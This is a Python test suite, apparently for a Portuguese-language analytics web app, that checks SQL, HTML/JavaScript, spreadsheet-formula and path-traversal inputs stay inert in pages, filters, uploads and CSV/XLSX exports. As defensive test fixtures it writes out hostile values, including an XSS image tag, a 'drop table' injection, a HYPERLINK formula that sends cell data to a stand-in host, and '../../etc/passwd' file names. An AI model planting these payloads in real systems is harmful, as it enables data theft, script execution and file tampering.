"""Hostile strings stay inert: SQL, HTML/JavaScript and spreadsheet formulas in URL parameters,
the search box, file names, names and notes written on forms, and in every download.

What "inert" means here: the SQL never changes (values are bound parameters; filters validate
their values), no markdown the app draws allows HTML and every outside text in it is escaped (so
`<img …>` and `[x](…)` show as written), chart labels cannot become links, and any cell of a CSV
or XLSX that a spreadsheet would run as a formula starts with `'`.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from app_helpers import ADMIN, PAGES, ROOT, assert_ok, csv_downloads, open_as
from forms_factory import form_text, make_record
from retention_analytics import export, metrics
from retention_analytics.demo import render
from retention_analytics.filters import Filters
from retention_analytics.store import Store
from retention_analytics.ui import importer, nav
from retention_analytics.ui.page import _inert_labels

HTML = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://exemplo.invalid/?d="&A1,"clique aqui")'
SQL = "'; drop table cases; --"
LINK = "[clique](http://exemplo.invalid)"


def query(db, sql, params=None):
    with Store(db).connect() as con:
        return con.execute(sql, params or []).fetchall()


@pytest.fixture
def hostile_db(real_db, tmp_path, use_db) -> tuple[Path, int]:
    """The demo plus one case whose every free text is hostile; returns (db, its case id)."""
    db = use_db(tmp_path / "hostil.duckdb")
    shutil.copy(real_db, db)
    record = make_record(
        protocol_number="INJ-1",
        dentist_name='=HYPERLINK("http://exemplo.invalid") x',  # as the parser keeps a header cell
        analyst=f"{SQL} {LINK}",
        general_note=f"{FORMULA} {HTML} <script>alert('x')</script>",
        other_plans=f"@SUM(1+1) {LINK}",
        contacts=[{"number": 1, "date": "2024-03-02", "note": f"+55 {HTML} {LINK}"}],
    )
    summary = importer.commit(Store(db), importer.prepare(Store(db), [importer.Upload("hostil.xlsx", render(record, "xlsx"))]))
    assert summary.new == 1
    return db, summary.results[0].case_id


def markdown_bodies(at) -> list[tuple[str, bool]]:
    """(body, allows_html) of every markdown-rendering element on the page (markdown, captions,
    alerts, titles and subheaders), sidebar included."""
    elements = [*at.markdown, *at.caption, *at.title, *at.header, *at.subheader, *at.info, *at.warning, *at.error,
                *at.success]
    return [(str(e.value), bool(getattr(e.proto, "allow_html", False))) for e in elements]


UNESCAPED_TAG = re.compile(r"(?<!\\)<\s*/?\s*(img|script|a|iframe|svg)\b", re.IGNORECASE)
LIVE_LINK = re.compile(r"(?<!\\)\]\s*\(")


def assert_inert_markdown(at) -> None:
    for body, allows_html in markdown_bodies(at):
        assert not allows_html, body
        assert not UNESCAPED_TAG.search(body), f"live HTML: {body}"
        assert not LIVE_LINK.search(body), f"a live link: {body}"


def test_no_page_lets_html_through():
    """No `unsafe_allow_html` anywhere in the interface code."""
    sources = [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "retention_analytics" / "ui").glob("*.py")]
    offenders = [str(p) for p in sources if "unsafe_allow_html=True" in p.read_text(encoding="utf-8")]
    assert offenders == []


@pytest.mark.parametrize("page", PAGES)
def test_hostile_url_parameters_are_ignored_or_inert(page, demo_db, use_db):
    use_db(demo_db)
    at = open_as(page, None, {"uf": "' or 1=1--", "op": "<script>", "cidade": "MG|1 or 1=1", "de": "2024-13-45",
                              "ate": "'; drop table cases; --", "status": "aberto' or '1'='1", "caso": f"{HTML}{LINK}"})
    assert_ok(at)
    assert_inert_markdown(at)
    filters = at.session_state["_retention_filters"]
    assert filters.ufs == () and filters.start is None and filters.end is None and filters.outcomes == ()
    # What survives is normalized to harmless keys (letters and digits), bound as parameters anyway.
    assert filters.operators == ("script",) and filters.cities == ("MG|1or11",)
    # Pages without the sidebar's filters (Importar, Metas e alertas) filter nothing; Relatórios shows no cases.
    if nav.by_path(page).filters and page != "pages/11_Relatorios.py":
        assert any("Nenhum caso corresponde" in i.value or "Nenhum caso encontrado" in i.value for i in at.info), page
    assert query(demo_db, "select count(*) from cases")[0][0] > 0, "no SQL ran from the URL"
    if page == "pages/5_Casos.py":
        assert any("não é um número de caso válido" in w.value and "\\<img" in w.value for w in at.warning)


def test_filters_never_put_values_into_sql():
    f = Filters(operators=(SQL,), ufs=("' or 1=1--",), cities=("MG|' or 1=1",), analysts=("x'); --",))
    sql, params = f.where()
    assert "drop" not in sql and "'" not in sql.replace("'|'", "")
    assert f.ufs == () and f.operators == ("droptablecases",) and f.cities == ("MG|or11",)
    assert all(re.fullmatch(r"[0-9a-z]+", v) for values in params.values() for v in values if isinstance(v, str)
               and "|" not in v)


def test_search_box_with_sql_and_html(hostile_db):
    db, _ = hostile_db
    at = open_as("pages/5_Casos.py", ADMIN)
    at.text_input(key="casos_busca").set_value("' or 1=1 --").run()
    assert_ok(at)
    assert any("Nenhum caso encontrado" in i.value for i in at.info)
    at.text_input(key="casos_busca").set_value(HTML).run()
    assert_ok(at)
    assert_inert_markdown(at)
    at.text_input(key="casos_busca").set_value("INJ-1").run()
    assert_ok(at)
    assert len(at.dataframe[0].value) == 1, "the hostile case is found by its protocol"


def test_a_hostile_case_shows_as_text_on_casos(hostile_db):
    db, case_id = hostile_db
    at = open_as("pages/5_Casos.py", ADMIN, {"caso": str(case_id)})
    assert_ok(at)
    assert any("Formulário do caso INJ" in s.value for s in at.subheader)
    assert_inert_markdown(at)
    bodies = "\n".join(body for body, _ in markdown_bodies(at))
    assert "\\<img src=x onerror=alert\\(1\\)\\>" in bodies, "the note is shown, escaped"
    assert query(db, "select count(*) from cases")[0][0] > 1, "the SQL in the analyst's name did nothing"


def test_hostile_texts_are_neutralized_in_every_download(hostile_db, downloads):
    db, case_id = hostile_db
    at = open_as("pages/5_Casos.py", ADMIN)
    at.text_input(key="casos_busca").set_value("INJ-1").run()
    assert_ok(at)
    (data,) = [d for d in csv_downloads(at, downloads)]
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text and '"=HYPERLINK' not in text

    # The full `cases` export (notes included) from the CLI, in CSV and XLSX.
    out = subprocess.run([sys.executable, "-m", "retention_analytics", "--db", str(db), "export", "cases", "--format",
                          "csv", "--analyst", f"{SQL} {LINK}"], cwd=ROOT, capture_output=True, timeout=120)
    assert out.returncode == 0, out.stderr.decode()
    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8-sig").partition("\r\n\r\n")[2]), delimiter=";"))
    header, row = rows[0], rows[1]
    for column in ("dentist_name", "general_note"):
        assert row[header.index(column)].startswith("'="), column
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"-?\d+(,\d+)?", c)]

    frame = metrics.cases(Store(db), Filters(), search="INJ-1")
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(frame, "cases", "Todos os casos")))
    sheet = book["Dados"]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value}"
    assert any(str(c.value).startswith("'=HYPERLINK") for r in sheet.iter_rows(min_row=2) for c in r)


def test_hostile_file_names_in_upload_and_zip(real_db, tmp_path, use_db):
    import zipfile

    db = use_db(tmp_path / "nomes.duckdb")
    shutil.copy(real_db, db)
    at = open_as("pages/6_Importar.py", ADMIN)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../etc/passwd.txt", form_text(make_record(protocol_number="NOME-1")))
        archive.writestr(f"{HTML}.txt", b"\x00\x01 nao e texto")
    at.get("file_uploader")[0].set_value([
        ("../../etc/passwd.xlsx", render(make_record(protocol_number="NOME-2"), "xlsx"), "application/octet-stream"),
        ("<script>alert(1)</script>.txt", b"\x00\x01\x02", "text/plain"),
        (f"{LINK}.zip", buffer.getvalue(), "application/zip"),
    ])
    at.run()
    assert_ok(at)
    assert_inert_markdown(at)
    names = list(at.dataframe[0].value["Arquivo"])
    assert "etc/passwd.xlsx" in names and not any(".." in n for n in names)
    at.button(key="import_confirm").click().run()
    assert_ok(at)
    assert_inert_markdown(at)
    stored = {n for (n,) in query(db, "select file_name from documents where batch_id = (select max(batch_id) from documents)")}
    assert not any(".." in n or n.startswith("/") for n in stored), stored
    assert not (tmp_path / "etc").exists() and not Path("/etc/passwd.xlsx").exists()


def test_chart_labels_from_forms_cannot_become_links():
    import plotly.graph_objects as go

    fig = go.Figure(go.Bar(x=['<a href="http://exemplo.invalid">ODONTO</a>', "Linha<br>quebrada"], y=[1, 2],
                           name="<b>x</b>"))
    _inert_labels(fig)
    assert list(fig.data[0].x) == ['&lt;a href="http://exemplo.invalid"&gt;ODONTO&lt;/a&gt;', "Linha<br>quebrada"]
    assert fig.data[0].name == "&lt;b&gt;x&lt;/b&gt;"
